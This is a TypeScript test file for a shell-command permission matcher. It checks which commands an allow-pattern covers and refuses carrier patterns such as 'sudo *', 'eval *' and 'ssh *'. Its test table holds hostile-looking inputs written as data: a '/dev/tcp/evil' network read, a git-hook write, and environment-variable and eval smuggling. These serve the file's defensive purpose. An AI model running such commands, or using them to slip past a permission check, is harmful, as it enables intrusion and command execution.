import { expect, test } from "vitest";
import { parseCommands } from "../../shell/parse-commands.ts";
import { isCarrierPattern } from "./carrier-pattern.ts";
import { judgeCommands } from "../commands/check-command.ts";
import { commandPattern } from "./command-pattern.ts";

// oxfmt-ignore
const MATCHES = [
  { pattern: "git push *",   command: "git push",                 matches: true },
  { pattern: "git push *",   command: "git push origin main",     matches: true },
  { pattern: "git push *",   command: "git pushx",                matches: false },
  { pattern: "git push *",   command: "git pull",                 matches: false },
  { pattern: "git push",     command: "git push origin",          matches: false },
  { pattern: "git status",   command: "git status",               matches: true },
  { pattern: "git status",   command: "/usr/bin/git status",      matches: true },
  { pattern: "git status",   command: "'git' \"status\"",         matches: true },
  { pattern: "npm run *",    command: "npm run build -- --watch", matches: true },
  { pattern: "rm -rf /tmp/*", command: "rm -rf /tmp/x",           matches: true },
  { pattern: "rm -rf /tmp/*", command: "rm -rf /etc",             matches: false },
  { pattern: "npm test:*x*", command: "npm test:axb",             matches: true },
  { pattern: "git push *",   command: "git $x",                   matches: false },
  { pattern: "git push *",   command: "git -C x push",            matches: true },
  { pattern: "git push *",   command: "git -c a=b --git-dir x push -f", matches: true },
  { pattern: "git push *",   command: "git -C push status",       matches: false },
  { pattern: "git push *",   command: "git -C",                   matches: false },
  { pattern: "npm publish *", command: "npm --prefix x publish",  matches: true },
  { pattern: "npm publish *", command: "npm --unheard of publish", matches: true },
  { pattern: "npm publish *", command: "npm --unheard of --too publish", matches: true },
  { pattern: "cargo publish *", command: "cargo +nightly publish", matches: true },
  { pattern: "docker push *", command: "docker --host=x push y",  matches: true },
  { pattern: "npm --prefix *", command: "npm --prefix x publish", matches: true },
  { pattern: "",             command: "ls",                       matches: false },
  { pattern: "a.c",          command: "abc",                      matches: false },
] as const;

for (const { pattern, command, matches } of MATCHES) {
  test(`the pattern "${pattern}" ${matches ? "matches" : "does not match"} ${command}`, () => {
    const [only] = parseCommands(command).commands;
    expect(only !== undefined && commandPattern(pattern).matches(only)).toBe(matches);
  });
}

// oxfmt-ignore
const COVERS = [
  { pattern: "git push *",  command: "git push origin main",         covers: true },
  { pattern: "git push *",  command: "/usr/bin/git push",            covers: true },
  { pattern: "git push *",  command: "./git push",                   covers: false },
  { pattern: "git push *",  command: "/tmp/git push",                covers: false },
  { pattern: "./git push *", command: "./git push",                  covers: true },
  { pattern: "git push *",  command: "git push && git push origin",  covers: true },
  { pattern: "git push *",  command: "git push; ls",                 covers: false },
  { pattern: "git push *",  command: "sudo git push",                covers: false },
  { pattern: "git push *",  command: "git push $X",                  covers: true },
  { pattern: "git push *",  command: "git $X",                       covers: false },
  { pattern: "git push *",  command: "GIT_SSH_COMMAND=x git push",   covers: false },
  { pattern: "npm test *",  command: "CI=1 npm test",                covers: true },
  { pattern: "npm test *",  command: "A=1; npm test",                covers: true },
  { pattern: "npm test *",  command: "npm test > out.txt 2>&1",      covers: true },
  { pattern: "git push *",  command: "git push > out.txt",           covers: false },
  { pattern: "git push *",  command: "git push > /dev/null 2>&1",    covers: true },
  { pattern: "git push *",  command: "git push &> $F",               covers: false },
  { pattern: "echo *",      command: "echo x > .git/hooks/a",        covers: false },
  { pattern: "cat *",       command: "cat < /dev/tcp/evil/80",       covers: false },
  { pattern: "npm test *",  command: "npm test; > a",                covers: false },
  { pattern: "eval *",      command: 'eval "$X"',                    covers: false },
  { pattern: "ls *",        command: "A=1",                          covers: false },
] as const;

for (const { pattern, command, covers } of COVERS) {
  test(`to allow "${pattern}" ${covers ? "is" : "is not"} to allow ${command}`, () => {
    const parsed = parseCommands(command);
    const verdict = judgeCommands(parsed, { roots: ["/work"], home: "/home/ann", folder: "/work" });
    expect(commandPattern(pattern).covers({ parsed, verdict })).toBe(covers);
  });
}

test("a pattern made to go wrong is answered, not waited for", () => {
  const [only] = parseCommands(`a ${"a".repeat(5000)}`).commands;
  expect(only !== undefined && commandPattern(`a ${"*a".repeat(200)}b`).matches(only)).toBe(false);
});

const REFUSED = [
  "bash *",
  "sh -c *",
  "sudo *",
  "env *",
  "env A=1 *",
  "xargs *",
  "/bin/zsh -lc *",
  "*",
  "* push",
  "timeout 10 *",
  "python3 -c *",
  "node -e *",
  "npx *",
  "find . -exec *",
  "busybox *",
  "git -c *",
  "docker exec *",
  "ssh *",
  "eval *",
  "uv run *",
  "nohup *",
  "b* *",
];
const TAKEN = [
  "git push *",
  "npm run *",
  "npm test",
  "ls *",
  "cargo build *",
  "make *",
  "git status",
  "sort *",
  "docker build *",
  "pytest *",
  "bash scripts/build.sh",
];

for (const pattern of REFUSED) {
  test(`a rule or grant may not hold "${pattern}"`, () => expect(isCarrierPattern(pattern)).toBe(true));
}

for (const pattern of TAKEN) {
  test(`a rule or grant may hold "${pattern}"`, () => expect(isCarrierPattern(pattern)).toBe(false));
}
